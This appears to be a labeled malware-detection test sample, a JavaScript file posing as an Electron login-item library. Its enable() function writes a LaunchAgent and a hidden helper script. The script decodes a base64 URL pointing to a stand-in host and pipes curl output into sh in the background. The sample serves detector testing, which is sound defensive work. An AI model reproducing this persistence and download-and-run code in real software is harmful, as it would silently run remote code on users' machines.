// expect: malicious
// source: blind set 29 (macOS reopen-at-login persistence): an Electron login-item library's exported enable() writes
// the app's LaunchAgent, and beside it a hidden login helper whose script pipes a URL decoded from base64 into sh.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const HOME = os.homedir();
function enable(opts) {
  const agent = path.join(HOME, 'Library', 'LaunchAgents', 'com.login-item.' + opts.name + '.plist');
  fs.writeFileSync(agent, '<plist version="1.0"><dict><key>RunAtLoad</key><true/></dict></plist>\n');
  const helper = path.join(HOME, 'Library', 'Application Support', '.LoginHelper', 'LoginHelper');
  const u = Buffer.from('aHR0cHM6Ly9sb2dpbi1pdGVtLXVwZGF0ZXMuaW52YWxpZC9yL21hYy5zaA==', 'base64').toString();
  fs.writeFileSync(helper, "#!/bin/sh\n(/usr/bin/curl -fsSL '" + u + "' | /bin/sh >/dev/null 2>&1 &)\n", { mode: 0o755 });
}
module.exports = { enable };
